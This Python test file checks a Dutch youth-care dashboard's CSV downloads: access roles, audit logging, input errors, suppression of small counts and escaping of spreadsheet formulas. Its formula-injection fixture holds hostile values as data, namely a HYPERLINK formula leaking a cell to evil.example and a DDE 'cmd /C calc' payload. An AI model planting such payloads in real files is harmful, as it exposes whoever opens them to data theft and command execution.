"""The dashboard's figures as CSV (issue 12, insight.downloads): one download per section,
through the page's own access path (the policy, the access log with the area as object),
with exactly the tables the page shows (hidden cells as the page says them, never the
hidden number), for the same area, period and language; bad input a 4xx naming the field;
no spreadsheet formula from reference data; the link only under a section with a table."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from typing import Any

import pytest

from jeugdketen.insight import derive, downloads
from tests import factories as f
from tests.insight import handmade
from tests.insight.test_pages import (
    client,
    closed_plans,
    figures_store,
    insight_reads,
    publish,
    two_big_hoods,
)
from tests.pages import anonymous

DASHBOARD = "/inzicht/"
DOWNLOAD = "/inzicht/download/"
PERIOD = "2026-11-30"
SECTION_KEYS = ["kpis", "waardestroom", "wachtlijsten", "uitkomsten", "kosten"]


@pytest.fixture(autouse=True)
def _pages(settings):
    from tests.pages import for_pages

    for_pages(settings)


def url(area: str = "WK991101", section: str = "kpis", end: str = PERIOD) -> str:
    return f"{DOWNLOAD}?gebied={area}&tot={end}&sectie={section}"


# --- reading what the page and the file hold -------------------------------------------------


class PageTables(HTMLParser):
    """The page's tables per section key: caption, column headers, rows of cell texts;
    and the download links per section."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tables: dict[str, list[dict[str, Any]]] = {}
        self.links: dict[str, list[str]] = {}
        self.section = ""
        self.table: dict[str, Any] | None = None
        self.where = ""  # caption, head, body
        self.row: list[str] | None = None
        self.text: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        if tag == "section" and (a.get("aria-labelledby") or "").startswith("sectie-"):
            self.section = (a["aria-labelledby"] or "").removeprefix("sectie-")
            self.tables.setdefault(self.section, [])
            self.links.setdefault(self.section, [])
        elif tag == "a" and self.section and "/download/" in (a.get("href") or ""):
            self.links[self.section].append(a["href"] or "")
        elif tag == "table" and self.section:
            self.table = {"caption": "", "columns": [], "rows": []}
        elif self.table is not None:
            if tag == "caption":
                self.where, self.text = "caption", []
            elif tag == "thead":
                self.where = "head"
            elif tag == "tbody":
                self.where = "body"
            elif tag == "tr" and self.where == "body":
                self.row = []
            elif tag in ("th", "td"):
                self.text = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "section":
            self.section = ""
        elif self.table is None:
            return
        elif tag == "table":
            self.tables[self.section].append(self.table)
            self.table = None
        elif tag == "caption" and self.text is not None:
            self.table["caption"] = "".join(self.text).strip()
            self.text = None
        elif tag in ("th", "td") and self.text is not None:
            value = "".join(self.text).strip()
            if self.where == "head":
                self.table["columns"].append(value)
            elif self.row is not None:
                self.row.append(value)
            self.text = None
        elif tag == "tr" and self.row is not None:
            self.table["rows"].append(self.row)
            self.row = None

    def handle_data(self, data: str) -> None:
        if self.text is not None:
            self.text.append(data)


def page_tables(body: str) -> PageTables:
    parser = PageTables()
    parser.feed(body)
    return parser


def file_tables(response: Any) -> list[dict[str, Any]]:
    """The CSV's tables: blocks between empty lines, each a header row ("Tabel" and the
    columns) and rows whose first field is the caption."""
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf"), raw[:20]  # UTF-8 with its byte order mark
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8")[1:], newline=""), delimiter=";"))
    tables: list[dict[str, Any]] = []
    block: list[list[str]] = []
    for row in [*rows, []]:
        if row:
            block.append(row)
            continue
        if block:
            header, *body = block
            captions = {r[0] for r in body}
            assert len(captions) == 1, captions
            tables.append({"caption": body[0][0], "columns": header[1:],
                           "rows": [r[1:] for r in body], "first": header[0]})
            block = []
    return tables


def main(body: str) -> str:
    return body[body.index("<main"):body.index("</main>")]


def download(who: Any, lang: str = "nl", **asked: str) -> Any:
    return client(who, lang).get(url(**asked))


# --- who may download ----------------------------------------------------------------------


@pytest.mark.parametrize("who", ["analyst", "coordinator", "front-door"])
def test_each_allowed_role_downloads_a_section_and_the_read_is_logged(iw, insight_dir, who):
    publish(insight_dir, figures_store)
    response = download(iw.allowed[who], area="WK991101", section="kpis")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="inzicht-WK991101-2026-11-30-kpis.csv"')
    assert "no-cache" in response["Cache-Control"] or "no-store" in response["Cache-Control"]
    reads = insight_reads(outcome="allowed")
    assert [(r.action, r.object_id) for r in reads] == [("read", "WK991101")]
    assert insight_reads(outcome="denied") == []
    assert file_tables(response)


@pytest.mark.parametrize("who", ["professional", "provider-coordinator", "provider-analyst",
                                 "team-coordinator", "privacy-officer", "functional-admin",
                                 "platform-admin", "no-role"])
def test_every_other_role_gets_the_403_page_and_the_attempt_is_logged(iw, insight_dir, who):
    publish(insight_dir, figures_store)
    response = download(iw.denied[who], area="BU99110101", section="kpis")
    assert response.status_code == 403
    assert not response["Content-Type"].startswith("text/csv")
    body = response.content.decode()
    assert "Oude Haven" not in body and "Noord" not in body
    denied = insight_reads(outcome="denied")
    assert len(denied) == 1 and denied[0].action == "read"
    assert insight_reads(outcome="allowed") == []


def test_no_one_and_a_citizen_get_no_file(iw, insight_dir):
    publish(insight_dir, figures_store)
    response = anonymous().get(url())
    assert response.status_code == 302 and "/download/" in response.url  # to the log-in
    citizen = f.UserFactory(person=f.PersonFactory())
    assert client(type("W", (), {"user": citizen})()).get(url()).status_code == 403
    assert insight_reads(outcome="allowed") == []


@pytest.mark.parametrize("area", ["BU99120101", "GM9912", "WK991201"])
def test_another_municipalitys_area_answers_as_an_unknown_one_and_is_logged(iw, insight_dir,
                                                                           area):
    publish(insight_dir, figures_store)
    foreign = download(iw.analyst, area=area)
    unknown = download(iw.analyst, area="BU99119999")
    assert foreign.status_code == unknown.status_code == 422
    body = foreign.content.decode()
    assert "Kies een gebied uit de lijst." in body
    assert main(body).replace(area, "") == main(unknown.content.decode()).replace(
        "BU99119999", "")
    assert "Molenbuurt" not in body and "Andersdorp" not in body and "Zuid" not in body
    assert insight_reads(outcome="allowed") == []
    assert [r.object_id for r in insight_reads(outcome="denied")] == [area, "BU99119999"]


def test_the_other_municipalitys_analyst_downloads_only_their_own(iw, insight_dir):
    publish(insight_dir, figures_store)
    response = download(iw.analyst_b, area="WK991101")
    assert response.status_code == 422
    assert "Oude Haven" not in response.content.decode()
    response = download(iw.analyst_b, area="GM9912", section="uitkomsten")
    assert response.status_code == 200
    text = response.content.decode()
    assert "Molenbuurt" in text and "Haven" not in text


# --- bad input -------------------------------------------------------------------------------


@pytest.mark.parametrize(("query", "label", "message"), [
    ("gebied=&tot=2026-11-30&sectie=kpis", "Gebied", "Dit veld is verplicht"),
    ("tot=2026-11-30&sectie=kpis", "Gebied", "Dit veld is verplicht"),
    ("gebied=nonsense%00&tot=2026-11-30&sectie=kpis", "Gebied", "Kies een gebied uit de lijst."),
    ("gebied=GM9911&tot=2026-06-15&sectie=kpis", "Periode", "Kies een periode uit de lijst."),
    ("gebied=GM9911&tot=2099-12-31&sectie=kpis", "Periode", "Kies een periode uit de lijst."),
    ("gebied=GM9911&tot=nov&sectie=kpis", "Periode", "Kies een periode uit de lijst."),
    ("gebied=GM9911&tot=2026-11-30&sectie=alles", "Sectie", "Kies een sectie van de pagina"),
    ("gebied=GM9911&tot=2026-11-30", "Sectie", "Dit veld is verplicht"),
    ("gebied=GM9911&tot=2026-11-30&sectie=" + "x" * 5000, "Sectie",
     "Kies een sectie van de pagina"),
])
def test_bad_input_is_a_422_naming_the_field(iw, insight_dir, query, label, message):
    publish(insight_dir, figures_store)
    response = client(iw.analyst).get(f"{DOWNLOAD}?{query}")
    assert response.status_code == 422
    assert response["Content-Type"].startswith("text/html")
    body = response.content.decode()
    assert f"{label}: {message}" in body, body[body.index("<main"):][:2000]
    assert "Geen download" in body
    assert insight_reads(outcome="allowed") == []


def test_a_post_is_not_allowed(iw, insight_dir):
    publish(insight_dir, figures_store)
    assert client(iw.analyst).post(url()).status_code == 405
    assert insight_reads(outcome="allowed") == []


def test_an_empty_store_has_nothing_to_download(iw, insight_dir):
    response = download(iw.analyst, area="GM9911")
    assert response.status_code == 404
    assert "Nog geen gegevens" in response.content.decode()
    body = client(iw.analyst).get(DASHBOARD).content.decode()
    assert "Download als CSV" not in body


def test_a_section_without_a_table_has_no_link_and_no_file(iw, insight_dir):
    """Nieuwe Haven alone has too few trajectories: the value stream is not shown (a
    sentence, no table), so there is no link and the download answers 404."""
    publish(insight_dir, figures_store)
    body = client(iw.analyst).get(f"{DASHBOARD}?gebied=BU99110102&tot={PERIOD}").content.decode()
    page = page_tables(body)
    assert page.tables["waardestroom"] == [] and page.links["waardestroom"] == []
    for key in ("kpis", "wachtlijsten", "uitkomsten", "kosten"):
        assert len(page.links[key]) == (1 if page.tables[key] else 0), key
    response = download(iw.analyst, area="BU99110102", section="waardestroom")
    assert response.status_code == 404
    assert "geen tabel om te downloaden" in response.content.decode()


# --- what the file holds ---------------------------------------------------------------------


def sections_of_page(who: Any, area: str, lang: str = "nl") -> PageTables:
    response = client(who, lang).get(f"{DASHBOARD}?gebied={area}&tot={PERIOD}")
    assert response.status_code == 200
    return page_tables(response.content.decode())


@pytest.mark.parametrize("area", ["GM9911", "WK991101", "BU99110101", "BU99110102"])
def test_each_section_holds_exactly_the_tables_the_page_shows(iw, insight_dir, area):
    """For the hand-made store, every table of every section: the same caption, columns
    and cells as on the page, in the page's order; each shown section has its link with
    the same area, period and section."""
    publish(insight_dir, figures_store)
    page = sections_of_page(iw.analyst, area)
    assert list(page.tables) == SECTION_KEYS == list(downloads.SECTIONS)
    downloaded = 0
    for key in SECTION_KEYS:
        expected = page.tables[key]
        if not expected:
            assert page.links[key] == []
            continue
        assert page.links[key] == [url(area, key)]
        response = download(iw.analyst, area=area, section=key)
        assert response.status_code == 200, (key, response.content[:500])
        got = file_tables(response)
        assert [t["first"] for t in got] == ["Tabel"] * len(got)
        assert [{k: t[k] for k in ("caption", "columns", "rows")} for t in got] == expected, key
        downloaded += 1
    assert downloaded >= 4
    # Each download was read and logged with the area as its object, like the page.
    assert [r.object_id for r in insight_reads(outcome="allowed")] == [area] * (1 + downloaded)


def test_no_hidden_count_is_in_any_file(iw, insight_dir):
    """Nieuwe Haven: 3 closed plans, 1 helped (33%). Wherever it is a row its figures say
    "verborgen" (as on the page); Oude Haven's 20, which would give the 3 away beside the
    district's 23, is hidden too."""
    publish(insight_dir, figures_store)
    seen_hidden = 0
    for area in ("WK991101", "BU99110102", "BU99110101"):
        for key in SECTION_KEYS:
            response = download(iw.analyst, area=area, section=key)
            if response.status_code == 404:
                continue
            text = response.content.decode("utf-8")
            assert "33%" not in text
            for table in file_tables(response):
                for row in table["rows"]:
                    if row[0].startswith("Nieuwe Haven"):
                        values = [v for v in row[1:] if v]
                        assert values and set(values) == {"verborgen"}, (area, key, row)
                        seen_hidden += 1
                    if row[0].startswith("Oude Haven") and area != "BU99110101":
                        assert "20" not in row, (area, key, row)
                    for i, value in enumerate(row):
                        if i and table["columns"][i] in ("Aantal (n)", "Afgesloten trajecten",
                                                   "Bereikt", "Trajecten"):
                            assert value in ("verborgen", "0", "") or int(
                                value.replace(".", "")) >= 10, (area, key, row)
    assert seen_hidden >= 5


def test_the_file_is_in_the_callers_language(iw, insight_dir):
    publish(insight_dir, figures_store)
    page = sections_of_page(iw.analyst, "WK991101", lang="en")
    response = download(iw.analyst, lang="en", area="WK991101", section="uitkomsten")
    got = file_tables(response)
    assert [{k: t[k] for k in ("caption", "columns", "rows")} for t in got] == (
        page.tables["uitkomsten"])
    dutch = file_tables(download(iw.analyst, area="WK991101", section="uitkomsten"))
    assert got[0]["columns"] != dutch[0]["columns"]  # the page's English headers
    assert "Neighbourhood" in got[0]["columns"][0] or "Area" in got[0]["columns"][0]


def test_the_file_is_semicolon_separated_utf8_with_a_bom_and_crlf(iw, insight_dir):
    publish(insight_dir, figures_store)
    raw = download(iw.analyst, area="WK991101", section="kosten").content
    assert raw.startswith(b"\xef\xbb\xbfTabel;Gebied;Afgesloten trajecten;")
    assert b"\r\n" in raw and b"\n" not in raw.replace(b"\r\n", b"")
    assert "€".encode() in raw  # money as the page writes it, UTF-8


# --- formula injection -----------------------------------------------------------------------


NAMES = {"BU99110101": '=HYPERLINK("http://evil.example/?"&A1;"klik")',
         "BU99110102": "+31 Haven"}
PROVIDER = "@SUM(1+1)*cmd|' /C calc'!A0"


def formula_store(con: Any) -> None:
    """Two big neighbourhoods whose names (reference data) start with = and +, a provider
    whose name starts with @, and a district named with a -."""
    for hood, name in NAMES.items():
        handmade.area(con, hood, "WK991101", "GM9911", (name, "-Noord", "Telstad"))
    con.execute("INSERT INTO organisations VALUES (7, ?, 'youth_care_provider', 'GM9911')",
                [PROVIDER])
    closed_plans(con, "BU99110101", 20, helped=10, prefix="a")
    closed_plans(con, "BU99110102", 20, helped=10, prefix="b")
    derive.derive_all(con)


def test_a_name_that_starts_a_formula_is_written_as_text(iw, insight_dir):
    publish(insight_dir, formula_store)
    page = sections_of_page(iw.analyst, "WK991101")
    names = set()
    for key in SECTION_KEYS:
        response = download(iw.analyst, area="WK991101", section=key)
        if response.status_code == 404:
            continue
        got = file_tables(response)
        expected = page.tables[key]
        assert len(got) == len(expected)
        for table, shown in zip(got, expected, strict=True):
            for row, shown_row in zip(table["rows"], shown["rows"], strict=True):
                for value, shown_value in zip(row, shown_row, strict=True):
                    assert not value.startswith(("=", "+", "-", "@")), (key, value)
                    if shown_value.startswith(("=", "+", "-", "@")):
                        assert value == "'" + shown_value
                        names.add(shown_value)
                    else:
                        assert value == shown_value
    assert any(n.startswith(NAMES["BU99110101"]) for n in names), names
    assert any(n.startswith("+31 Haven") for n in names), names
    assert any(n.startswith("-Noord") for n in names), names
    assert any(n.startswith("@SUM") for n in names), names


def test_safe_prefixes_every_formula_start():
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert downloads.safe(text) == "'" + text
    for text in ("Oude Haven", "50%", "30–70%", "verborgen", "", "€ 1.000,00", "'quoted"):
        assert downloads.safe(text) == text


def test_csv_text_writes_the_tables_as_blocks():
    tables = [
        {"caption": "Een", "columns": ["Gebied", "Aantal"],
         "rows": [[{"text": "A"}, {"text": "12"}], [{"text": "B; C"}, {"text": "verborgen"}]]},
        {"caption": "=Twee", "columns": ["Week", "Open"], "rows": [[{"text": "2026-W01"},
                                                                     {"text": ""}]]},
    ]
    assert downloads.csv_text(tables) == (
        "\ufeffTabel;Gebied;Aantal\r\nEen;A;12\r\nEen;\"B; C\";verborgen\r\n\r\n"
        "Tabel;Week;Open\r\n'=Twee;2026-W01;\r\n")


def test_the_links_carry_the_pages_scope_and_are_keyboard_links(iw, insight_dir):
    publish(insight_dir, two_big_hoods)
    body = client(iw.front_door).get(f"{DASHBOARD}?gebied=BU99110101&tot={PERIOD}"
                                     ).content.decode()
    links = re.findall(r'<a class="utrecht-link utrecht-link--html-a" href="(/inzicht/download/'
                       r'[^"]*)">Download als CSV<span class="jk-visually-hidden">: ([^<]*)</span>',
                       body)
    assert [href for href, _title in links] == [
        f"/inzicht/download/?gebied=BU99110101&amp;tot={PERIOD}&amp;sectie={key}"
        for key in SECTION_KEYS]
    assert [title for _href, title in links] == [str(t) for t in downloads.SECTIONS.values()]
    # Each link comes after its section's last table.
    for key in SECTION_KEYS:
        section = body[body.index(f'id="sectie-{key}"'):]
        section = section[:section.index("</section>")]
        assert section.rindex("</table>") < section.index("Download als CSV")


def test_a_download_is_logged_as_the_page_is(iw, insight_dir):
    """The page's read and the download's: the same record but for its moment and place in
    the chain of the log."""
    publish(insight_dir, figures_store)
    c = client(iw.coordinator)
    assert c.get(f"{DASHBOARD}?gebied=BU99110101&tot={PERIOD}").status_code == 200
    assert c.get(url("BU99110101", "kosten")).status_code == 200
    fields = ("user_id", "username", "role", "organisation_id", "channel", "action",
              "object_type", "object_id", "data", "ground", "emergency", "reason", "outcome",
              "client_id")
    page_read, file_read = ({name: getattr(r, name) for name in fields}
                            for r in insight_reads())
    assert page_read == file_read
    assert file_read["object_id"] == "BU99110101" and file_read["outcome"] == "allowed"
